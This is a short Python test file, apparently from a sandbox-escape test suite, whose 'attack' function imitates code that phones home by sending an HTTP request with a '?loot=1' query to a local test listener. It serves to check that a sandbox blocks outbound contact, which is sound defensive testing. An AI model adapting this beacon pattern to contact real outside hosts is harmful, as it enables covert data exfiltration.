"""Sends a request with the standard library, as code that phones home does."""

import contextlib
import urllib.error
import urllib.request

from tests.sandbox.escape.target import Harm, Target

HARM = Harm.CONTACT


def attack(target: Target) -> bytes:
    with contextlib.suppress(TimeoutError, urllib.error.URLError):
        urllib.request.urlopen(f"http://127.0.0.1:{target.tcp_port}/?loot=1", timeout=1)
    return b""
